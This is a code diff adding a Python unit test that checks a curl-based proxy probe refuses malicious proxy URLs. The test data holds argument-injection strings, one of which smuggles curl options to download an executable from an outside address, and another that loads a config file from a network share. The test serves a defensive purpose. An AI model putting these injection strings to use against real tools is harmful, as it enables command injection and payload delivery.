@@ -124,6 +124,20 @@ class WithCurlDouble(ProbeRun):
         self.assertEqual(record['error_code'], 'DISCOVERY_HTTP_ERROR')
         self.assertEqual(got['provider'], netfixtures.FALLBACK_HOST)
 
+    def test_proxy_urls_that_would_add_curl_arguments_never_reach_curl(self):
+        for proxy in ('socks5://u:p@203.0.113.5:1080 -o vantrel-engine.exe http://203.0.113.5/e.exe',
+                      'socks5://h:1\t-K \\\\host\\share\\c.txt', 'socks5://h:1" -m 0'):
+            for where in ('proxy-server', 'chrome-command-line'):
+                with self.subTest(proxy=proxy, where=where):
+                    overlay = ({'proxy-server': proxy} if where == 'proxy-server'
+                               else {'chrome-command-line': {'--proxy-server': proxy}})
+                    got = self.drive(dict(overlay, **{'auto-timezone': True}), self.env(0, b'{"ip":"203.0.113.7"}'))
+                    self.assertFalse(os.path.exists(self.log))
+                    record = self.error_record()
+                    self.assertEqual(record['error_code'], 'INTERNAL')
+                    self.assertRegex(record['message'], r'^proxy URL refused: byte \d+ ')
+                    self.assertEqual((got['blocked'], got['rows'][1]['detail']), (True, 'BLOCKED: INTERNAL'))
+
     def test_curl_missing(self):
         install_curl(self, None)
         got = self.drive({'proxy-server': 'socks5://h:1', 'auto-geo': True, 'on-proxy-fail': 'fallback'})
